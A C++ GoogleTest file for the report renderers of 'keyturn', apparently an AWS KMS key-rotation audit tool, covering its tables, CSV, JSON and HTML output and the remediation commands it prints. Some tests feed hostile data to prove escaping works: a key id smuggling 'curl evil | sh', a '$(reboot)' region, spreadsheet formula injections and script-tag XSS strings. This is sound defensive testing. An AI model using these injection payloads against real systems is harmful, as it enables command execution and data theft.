// Reports: each format tells the whole record, and nothing in a record can act on its reader.
#include "report/report.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>

#include "json/json.h"
#include "report/html_parts.h"
#include "report/sample_run.h"
#include "report/summary.h"
#include "report/text.h"

namespace keyturn::report {
namespace {

using control::AuditRun;
using control::Verdict;
using testing::HasSubstr;
using testing::Not;

std::size_t Occurrences(const std::string& text, std::string_view what) {
  std::size_t count = 0;
  for (std::size_t at = text.find(what); at != std::string::npos; at = text.find(what, at + 1)) {
    ++count;
  }
  return count;
}

// Says keeps a failure's message short: a page is long.
bool Says(const std::string& page, std::string_view what) {
  return page.find(what) != std::string::npos;
}

const control::KeyResult& KeyWithAlias(const AuditRun& run, std::string_view alias) {
  for (const auto& key : run.keys) {
    if (!key.facts.aliases.empty() && key.facts.aliases.front() == alias) {
      return key;
    }
  }
  ADD_FAILURE() << "no key " << alias;
  return run.keys.front();
}

TEST(SampleRun, CoversEveryVerdict) {
  const AuditRun run = SampleRun();
  for (const Verdict verdict : kVerdictOrder) {
    EXPECT_GT(run.totals.by_verdict.at(verdict), 0U) << control::VerdictName(verdict);
  }
}

TEST(Answer, AFailureIsOneEvenInAnIncompleteRun) {
  AuditRun run = SampleRun();
  EXPECT_EQ(AnswerOf(run), Answer::kNotCompliant);
  EXPECT_EQ(AnswerTitle(run), "Not compliant, and incomplete");
  EXPECT_EQ(AnswerOf(CompliantRun()), Answer::kCompliant);
}

TEST(Answer, ARunThatSawNothingIsNeverCompliant) {
  AuditRun run = CompliantRun();
  run.regions.front().status = control::RegionStatus::kDenied;
  EXPECT_EQ(AnswerOf(run), Answer::kIncomplete);
  run = CompliantRun();
  run.cancelled = true;
  EXPECT_EQ(AnswerOf(run), Answer::kIncomplete);
  EXPECT_THAT(AnswerSentence(run), HasSubstr("stopped before it was done"));
}

TEST(Answer, SpeaksOfTheKeysThatThePercentageCounts) {
  AuditRun run;
  for (const bool follows : {false, true, false}) {
    control::KeyResult key;
    key.judgement.verdict = run.keys.size() < 2 ? Verdict::kFail : Verdict::kPass;
    key.judgement.follows_primary = follows;
    run.keys.push_back(key);
  }
  run.totals = control::CountTotals(run.keys);
  EXPECT_EQ(run.totals.compliance_percent, 50.0);
  EXPECT_EQ(AnswerSentence(run),
            "1 of 2 keys in scope does not rotate as required. 1 replica counts with its primary.");
}

TEST(Changes, APlanThatCouldReadNothingIsNoSuccess) {
  ChangeReport plan;
  plan.kind = ChangeKind::kPlan;
  const TerminalStyle style{.width = 80, .color = false, .unicode = true};
  EXPECT_TRUE(Says(RenderChanges(plan, style), "✓ plan   There was nothing to do."));
  plan.incomplete = true;
  EXPECT_TRUE(Says(RenderChanges(plan, style), "! plan   Nothing could be planned."));
}

TEST(Remediation, PlansWithTheExceptionsOfTheAudit) {
  AuditRun run = CompliantRun();
  run.exception_notes.clear();
  for (auto& key : run.keys) key.judgement.exception_id = {};
  EXPECT_THAT(PlanCommand(run), testing::Not(HasSubstr("--exceptions")));
  run.exception_notes = {{"E1", "matches no key"}};
  EXPECT_THAT(PlanCommand(run), HasSubstr(" --exceptions EXCEPTIONS-AS-HERE --out"));
  run.exception_notes.clear();
  run.keys.front().judgement.exception_id = "E1";
  run.policy.sha256 = "abc";
  EXPECT_THAT(PlanCommand(run),
              HasSubstr("--policy POLICY-AS-HERE --exceptions EXCEPTIONS-AS-HERE"));
}

TEST(Remediation, IsTheCommandOfTheControl) {
  AuditRun run = SampleRun();
  for (auto& key : run.keys) key.facts.endpoint_url.clear();
  EXPECT_EQ(RemediationCommand(KeyWithAlias(run, "alias/hr/payroll"), run),
            "aws kms enable-key-rotation --key-id 00005db1-12ab-34cd-56ef-000000000003 --region "
            "eu-central-1");
}

TEST(Remediation, SetsThePeriodWhereThePeriodIsWrong) {
  const AuditRun run = SampleRun();
  EXPECT_THAT(RemediationCommand(KeyWithAlias(run, "alias/archive"), run),
              HasSubstr(" --rotation-period-in-days 365 "));
}

TEST(Remediation, OfAReplicaGoesToItsPrimary) {
  const AuditRun run = SampleRun();
  EXPECT_THAT(RemediationCommand(KeyWithAlias(run, "alias/global/session"), run),
              HasSubstr(" --region eu-central-1"));
}

TEST(Remediation, IsEmptyWhereNoneHelps) {
  const AuditRun run = SampleRun();
  EXPECT_EQ(RemediationCommand(KeyWithAlias(run, "alias/vault"), run), "");
  EXPECT_EQ(RemediationCommand(KeyWithAlias(run, "alias/aws/s3"), run), "");
}

TEST(Remediation, CannotCarryAnotherCommand) {
  AuditRun run = SampleRun();
  auto key = KeyWithAlias(run, "alias/hr/payroll");
  key.facts.key_id = "x; curl evil | sh\n";
  key.facts.region = "$(reboot)";
  const std::string line = RemediationCommand(key, run);
  EXPECT_THAT(line, HasSubstr("--key-id 'x; curl evil | sh ' "));
  EXPECT_THAT(line, HasSubstr("--region '$(reboot)'"));
  EXPECT_THAT(line, Not(HasSubstr("\n")));
}

TEST(Table, EveryLineFitsTheTerminalExceptCommands) {
  for (const std::size_t width : {40U, 57U, 80U, 97U, 98U, 121U, 122U, 160U, 250U}) {
    const std::string page =
        RenderTable(SampleRun(), {{.width = width, .color = false, .unicode = true}, true});
    std::size_t start = 0;
    while (start < page.size()) {
      const std::size_t end = page.find('\n', start);
      const std::string line = page.substr(start, end - start);
      start = end + 1;
      if (!line.starts_with("  keyturn ")) {
        EXPECT_LE(DisplayWidth(line), width) << line;
      }
    }
  }
}

TEST(Table, NoEscapeWithoutColours) {
  const std::string page = RenderTable(SampleRun(), {{.width = 100, .color = false}, true});
  EXPECT_THAT(page, Not(HasSubstr("\x1b")));
}

TEST(Table, AsciiIsAscii) {
  const std::string page =
      RenderTable(SampleRun(), {{.width = 100, .color = true, .unicode = false}, true});
  EXPECT_TRUE(std::all_of(page.begin(), page.end(),
                          [](char c) { return static_cast<unsigned char>(c) < 0x80; }));
}

TEST(Table, HidesQuietRowsOnlyAndSaysHowMany) {
  const AuditRun run = SampleRun();
  const std::string some = RenderTable(run, {{.width = 130}, false});
  const std::string all = RenderTable(run, {{.width = 130}, true});
  EXPECT_THAT(some, HasSubstr("and 6 more pass"));
  for (const auto& key : run.keys) {
    EXPECT_THAT(all, HasSubstr(key.facts.key_id));
    const bool quiet =
        key.judgement.verdict == Verdict::kPass || key.judgement.verdict == Verdict::kNotApplicable;
    if (!quiet) {
      EXPECT_THAT(some, HasSubstr(key.facts.key_id));
    }
  }
  EXPECT_THAT(all, Not(HasSubstr(" more pass")));
}

TEST(Table, OffersNoPlanWhenNothingCanBeFixed) {
  EXPECT_THAT(RenderTable(CompliantRun(), {}), Not(HasSubstr("keyturn plan")));
  EXPECT_THAT(RenderTable(SampleRun(), {}), HasSubstr("keyturn plan"));
}

TEST(Table, AnEmptyRunIsShownToo) {
  AuditRun run = CompliantRun();
  run.keys.clear();
  run.regions.front().keys_listed = 0;
  run.totals = control::CountTotals(run.keys);
  const std::string page = RenderTable(run, {});
  EXPECT_THAT(page, HasSubstr("No key was found that automatic rotation could apply to."));
}

TEST(Csv, NeverStartsACellWithAFormula) {
  AuditRun run = CompliantRun();
  for (const char* evil : {"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=\"a\",b"}) {
    run.keys.front().facts.description = evil;
    const std::string csv = RenderCsv(run);
    EXPECT_TRUE(csv.find(std::string(",'") + evil) != std::string::npos ||
                csv.find(",\"'") != std::string::npos)
        << evil;
  }
}

TEST(Csv, QuotesAsRfc4180) {
  AuditRun run = CompliantRun();
  run.keys.front().facts.description = "say \"hi\",\nthen";
  EXPECT_THAT(RenderCsv(run), HasSubstr(",\"say \"\"hi\"\",\nthen\","));
}

TEST(Csv, HasAHeaderAndOneRecordAKey) {
  const AuditRun run = SampleRun();
  EXPECT_EQ(Occurrences(RenderCsv(run), "\r\n"), run.keys.size() + 1);
}

TEST(Json, IsReadableAndComplete) {
  const AuditRun run = SampleRun();
  const std::string text = RenderJson(run);
  json::Parser parser;
  const auto root = parser.Parse(text);
  ASSERT_TRUE(root) << root.error().message;
  EXPECT_EQ(root->Find("keys")->size(), run.keys.size());
  EXPECT_EQ(root->Find("regions")->size(), run.regions.size());
  EXPECT_EQ(root->Find("totals")->Find("listed")->AsInt(),
            static_cast<std::int64_t>(run.keys.size()));
  std::int64_t sum = 0;
  root->Find("totals")->Find("by_verdict")->ForEachMember([&sum](std::string_view, json::Value v) {
    sum += *v.AsInt();
    return true;
  });
  EXPECT_EQ(sum, static_cast<std::int64_t>(run.keys.size()));
  root->Find("keys")->ForEachElement([&run](std::size_t i, json::Value key) {
    EXPECT_EQ(key.Find("arn")->AsString(), run.keys[i].facts.arn);
    EXPECT_EQ(key.Find("verdict")->AsString(), control::VerdictName(run.keys[i].judgement.verdict));
    EXPECT_EQ(key.Find("reason")->AsString(), run.keys[i].judgement.reason);
    return true;
  });
}

TEST(Json, ComesInPiecesThatAreTheWhole) {
  AuditRun run = SampleRun();
  while (run.keys.size() < 500) run.keys.push_back(run.keys.front());
  std::string text;
  std::size_t pieces = 0;
  std::size_t longest = 0;
  ASSERT_TRUE(WriteJson(run, [&](std::string_view piece) -> Status {
    text += piece;
    ++pieces;
    longest = std::max(longest, piece.size());
    return {};
  }));
  EXPECT_EQ(text, RenderJson(run));
  EXPECT_GT(pieces, 5U);
  EXPECT_LT(longest, 80U << 10);
}

TEST(Json, StopsWhereItsSinkDoes) {
  AuditRun run = SampleRun();
  while (run.keys.size() < 500) run.keys.push_back(run.keys.front());
  std::size_t pieces = 0;
  const Status written = WriteJson(run, [&pieces](std::string_view) -> Status {
    if (++pieces == 2) return Fail(ErrorCode::kNoSpace, "full");
    return {};
  });
  ASSERT_FALSE(written);
  EXPECT_EQ(written.error().code, ErrorCode::kNoSpace);
  EXPECT_EQ(pieces, 2U);
}

TEST(Json, SurvivesBytesThatAreNotUtf8) {
  AuditRun run = CompliantRun();
  run.keys.front().facts.description = "\xff\xfe";
  run.keys.front().facts.aliases = {"alias/\x80"};
  json::Parser parser;
  EXPECT_TRUE(parser.Parse(RenderJson(run)));
}

TEST(Html, ForeignWordsStayWords) {
  AuditRun run = SampleRun();
  const std::string evil = "\"'><script>alert(1)</script><img src=x onerror=alert(2)>&lt;";
  run.endpoint = evil;
  run.run_id = evil;
  run.tool_version = evil;
  run.exception_notes = {{evil, evil}};
  run.calls[evil] = {1, 0, 0};
  for (auto& region : run.regions) {
    region.account = region.detail = evil;
  }
  for (auto& key : run.keys) {
    key.facts.aliases = {evil};
    key.facts.description = key.facts.key_id = key.facts.key_spec = key.facts.key_state = evil;
    key.facts.origin = key.facts.multi_region_type = key.judgement.reason = evil;
    key.facts.region = evil;
    key.facts.rotation_failure = control::CallFailure{evil, evil, evil, evil};
  }
  HtmlOptions options = SampleHtmlOptions();
  options.exceptions.push_back({evil, evil, evil, evil, evil, evil, evil});
  for (auto& change : options.changes) {
    change.journal = change.plan_id = change.reason = evil;
    change.notes = {evil};
    change.lines.push_back({evil, evil, evil, evil, Outcome::kFailed, evil, evil});
  }
  const std::string page = RenderHtml(run, options);
  EXPECT_EQ(Occurrences(page, "<script"), 1U);
  EXPECT_EQ(Occurrences(page, "</script"), 1U);
  EXPECT_EQ(Occurrences(page, "<img"), 0U);
  EXPECT_EQ(Occurrences(page, "\"'>"), 0U);
  EXPECT_TRUE(Says(page, "&lt;script&gt;alert(1)")) << "&lt;script&gt;alert(1)";
}

TEST(Html, FetchesNothing) {
  const std::string page = RenderHtml(SampleRun(), SampleHtmlOptions());
  for (const char* reference : {" src=\"", "<link", "url(", "@import", "<iframe", "<object"}) {
    EXPECT_FALSE(Says(page, reference)) << reference;
  }
  EXPECT_TRUE(Says(page, "default-src 'none'")) << "default-src 'none'";
  EXPECT_FALSE(Says(page, " style=\"")) << " style=\"";  // the policy would refuse it
  EXPECT_FALSE(Says(page, "unsafe-inline")) << "unsafe-inline";
}

TEST(Html, EveryElementIsClosed) {
  const std::string page = RenderHtml(SampleRun(), SampleHtmlOptions());
  for (const std::string tag : {"section", "table", "thead", "tbody", "tr", "figure", "svg", "ul",
                                "dl", "code", "main", "header", "footer", "bdi", "h2", "h3"}) {
    EXPECT_EQ(Occurrences(page, "<" + tag + ">") + Occurrences(page, "<" + tag + " "),
              Occurrences(page, "</" + tag + ">"))
        << tag;
  }
}

TEST(Html, LongTablesAreCutWhereItIsSaid) {
  HtmlOptions options;
  options.rows_max = 5;
  const std::string page = RenderHtml(SampleRun(), options);
  EXPECT_TRUE(Says(page, "And 23 more, not shown here"))
      << "And 23 more, not shown here";  // every key: 28
  EXPECT_TRUE(Says(page, "And 2 more, not shown here"))
      << "And 2 more, not shown here";  // findings: 7
}

TEST(Html, AccountingIsStated) {
  const std::string page = RenderHtml(SampleRun(), {});
  EXPECT_TRUE(Says(page,
                   "28 listed = 5 fail + 1 fail (period) + 1 unknown + 1 excepted + 2 "
                   "skipped + 1 gone + 7 not applicable + 10 pass."))
      << "28 listed = 5 fail + 1 fail (period) + 1 unknown + 1 excepted + 2 "
         "skipped + 1 gone + 7 not applicable + 10 pass.";
  EXPECT_FALSE(Says(page, "does NOT match")) << "does NOT match";
}

TEST(Renderers, AreDeterministic) {
  EXPECT_TRUE(RenderHtml(SampleRun(), SampleHtmlOptions()) ==
              RenderHtml(SampleRun(), SampleHtmlOptions()));
  EXPECT_EQ(RenderJson(SampleRun()), RenderJson(SampleRun()));
}

TEST(Control, FitsTheTerminalExceptCommands) {
  for (const std::size_t width : {40U, 60U, 80U}) {
    const std::string page = RenderControl(ControlFormat::kText, {.width = width});
    for (std::size_t start = 0; start < page.size();) {
      const std::size_t end = page.find('\n', start);
      const std::string line = page.substr(start, end - start);
      start = end + 1;
      if (!line.starts_with("      aws ") && !line.starts_with("      keyturn ")) {
        EXPECT_LE(DisplayWidth(line), width) << line;
      }
    }
  }
}

TEST(Control, HasEverySectionAndExactLines) {
  const std::string text = RenderControl(ControlFormat::kText, {.width = 72});
  for (const char* needed :
       {"Profile Applicability", "Description", "Rationale", "Impact", "Default Value",
        "Pre-Requisites", "Test Plan", "Implementation Steps", "Backout Plan", "References",
        "aws kms list-keys --query 'Keys[*].KeyId'\n",
        "aws kms get-key-rotation-status --key-id <kms-key-id>\n",
        "aws kms enable-key-rotation --key-id <kms-key-id>\n",
        "aws kms disable-key-rotation --key-id <kms-key-id>\n", "Key spec = SYMMETRIC_DEFAULT",
        "Automatically rotate this KMS key every year"}) {
    EXPECT_THAT(text, HasSubstr(needed));
    EXPECT_THAT(RenderControl(ControlFormat::kText, {.width = 72, .color = false}),
                HasSubstr(needed));
  }
  json::Parser parser;
  EXPECT_TRUE(parser.Parse(RenderControl(ControlFormat::kJson, {})));
}

}  // namespace
}  // namespace keyturn::report
